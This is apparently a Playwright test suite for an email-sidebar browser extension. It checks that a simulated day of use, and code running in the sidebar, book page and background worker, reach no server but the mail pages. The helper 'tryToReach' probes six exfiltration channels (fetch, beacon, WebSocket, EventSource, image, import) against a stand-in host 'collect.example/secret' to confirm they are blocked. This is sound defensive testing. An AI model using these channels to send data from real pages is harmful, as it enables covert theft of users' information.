import { type BrowserContext, expect, type Frame, type Page, test, type Worker } from '@playwright/test';
import { builtExtension } from '../../scripts/browser/build-extension.ts';
import { launchWithExtension } from '../../scripts/browser/launch-with-extension.ts';
import { sidebarFrame } from '../../scripts/browser/sidebar-frame.ts';
import { todayHere } from '../../scripts/demo/demo-day.ts';
import { loadSeed } from '../../scripts/demo/load-seed.ts';
import { gmailMailbox, type Mailbox, outlookMailbox } from '../../scripts/demo/mailbox.ts';
import { cutOver } from '../../scripts/demo/northwind-threads.ts';
import { interfaceTest, unknownSender } from '../../scripts/demo/other-threads.ts';
import { readSidebar } from '../../scripts/demo/read-sidebar.ts';
import { demoBackup } from '../../scripts/demo/seed.ts';
import { type EveryHost, everyHost } from '../helpers/every-host';
import { mailPageAt } from '../helpers/open-mailbox';

interface Wired {
  readonly context: BrowserContext;
  readonly extensionId: string;
  readonly network: EveryHost;
}

/** The extension in a browser whose whole network is one server that keeps what it is asked. */
async function withNetwork(work: (wired: Wired) => Promise<void>): Promise<void> {
  const network = await everyHost((url) => (url.pathname.startsWith('/mail/') ? mailPageAt(url).html : null));
  const { context, extensionId, close } = await launchWithExtension({
    extensionDir: process.env.KEPT_EXTENSION_DIR ?? builtExtension,
    headless: true,
    locale: 'en-US',
    args: network.args,
  });
  try {
    await work({ context, extensionId, network });
  } finally {
    await close();
    await network.close();
  }
}

/** What a person does in a day: reads, settles, takes it back, adds a client. */
async function workIn(mailbox: Mailbox, page: Page): Promise<void> {
  await page.goto(mailbox.inbox);
  await mailbox.open(page, interfaceTest);
  await readSidebar(page, mailbox.threadId(interfaceTest));
  await mailbox.backToInbox(page);
  await mailbox.open(page, cutOver);
  await readSidebar(page, mailbox.threadId(cutOver));
  const frame = await sidebarFrame(page);
  const tick = frame.getByRole('button', { name: /^Kept today:.*Confirm the pilot sites/ });
  await expect(tick).not.toHaveAttribute('aria-disabled', 'true');
  await tick.click();
  await frame.getByRole('button', { name: 'Undo' }).click();
  await expect(frame.getByText('Taken back:')).toBeVisible();
  await mailbox.backToInbox(page);
}

async function addClient(mailbox: Mailbox, page: Page): Promise<void> {
  await mailbox.open(page, unknownSender);
  await readSidebar(page, mailbox.threadId(unknownSender));
  const frame = await sidebarFrame(page);
  await frame.getByRole('button', { name: 'Add as client' }).click();
  await frame.getByLabel('Name', { exact: true }).first().fill('Helios Bank');
  await frame.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(frame.getByRole('heading', { level: 1 })).toHaveText('Helios Bank');
}

test('a day of work asks the network for nothing but the mail pages', async () => {
  await withNetwork(async ({ context, extensionId, network }) => {
    await loadSeed(context, extensionId, demoBackup(todayHere()));
    const page = await context.newPage();
    for (const mailbox of [gmailMailbox, outlookMailbox]) await workIn(mailbox, page);
    await addClient(outlookMailbox, page);
    const book = await context.newPage();
    await book.goto(`chrome-extension://${extensionId}/book.html#backup`);
    const [download] = await Promise.all([
      book.waitForEvent('download'),
      book.getByRole('button', { name: 'Save a backup' }).click(),
    ]);
    await download.path();
    // What the page itself asks for does arrive, and after everything else.
    await page.evaluate(() => fetch('https://collect.example/control').catch(() => {}));
    const asked = () => network.asked.filter((each) => !each.endsWith('/favicon.ico'));
    await expect.poll(() => asked().at(-1)).toBe('GET https://collect.example/control');
    const documents = [gmailMailbox, outlookMailbox].map(({ inbox }) => `GET ${inbox.replace(/#.*/, '')}`);
    expect(asked().slice(0, -1)).toEqual(documents);
  });
});

/** Every way of a script to reach a server. */
const attempts = ['fetch', 'beacon', 'socket', 'events', 'image', 'import'] as const;

/** Runs in a page or worker of the extension: whether a way led anywhere. */
async function tryToReach(way: (typeof attempts)[number]): Promise<string> {
  const far = 'collect.example/secret';
  const opened = (target: EventTarget, done: string) =>
    new Promise<string>((resolve) => {
      target.addEventListener(done, () => resolve('done'));
      target.addEventListener('error', () => resolve('refused'));
    });
  try {
    if (way === 'fetch') await fetch(`https://${far}`, { mode: 'no-cors' });
    // It answers true even when the policy then drops it: only the server can tell.
    else if (way === 'beacon') return navigator.sendBeacon?.(`https://${far}`, 'x') ? 'unknown' : 'refused';
    else if (way === 'socket') return await opened(new WebSocket(`wss://${far}`), 'open');
    else if (way === 'events') return await opened(new EventSource(`https://${far}`), 'open');
    else if (way === 'import') await import(`https://${far}.js`);
    else {
      const image = new Image();
      const answer = opened(image, 'load');
      image.src = `https://${far}.png`;
      return await answer;
    }
    return 'done';
  } catch {
    return 'refused';
  }
}

test('code of any kind in the sidebar, the book or the background reaches no server', async () => {
  await withNetwork(async ({ context, extensionId, network }) => {
    const page = await context.newPage();
    await page.goto(gmailMailbox.inbox);
    const book = await context.newPage();
    await book.goto(`chrome-extension://${extensionId}/book.html`);
    const [worker] = context.serviceWorkers();
    if (worker === undefined) throw new Error('no background');
    const places: [string, Page | Frame | Worker][] = [
      ['sidebar', await sidebarFrame(page)],
      ['book', book],
      ['background', worker],
    ];
    const reached: string[] = [];
    for (const [name, place] of places) {
      for (const way of attempts) {
        const answer = await (place as Page).evaluate(tryToReach, way);
        if (answer === 'done') reached.push(`${name}: ${way}`);
      }
    }
    expect(reached).toEqual([]);
    const secrets = () => network.asked.filter((each) => each.includes('collect.example'));
    expect(secrets()).toEqual([]);
    // The same ways do lead out of a page that forbids nothing, and arrive after everything else.
    for (const way of attempts) {
      const before = secrets().length;
      await page.evaluate(tryToReach, way);
      await expect.poll(() => secrets().length, way).toBeGreaterThan(before);
    }
    expect(secrets().filter((each) => /secret$/.test(each)).length).toBeGreaterThanOrEqual(4);
  });
});
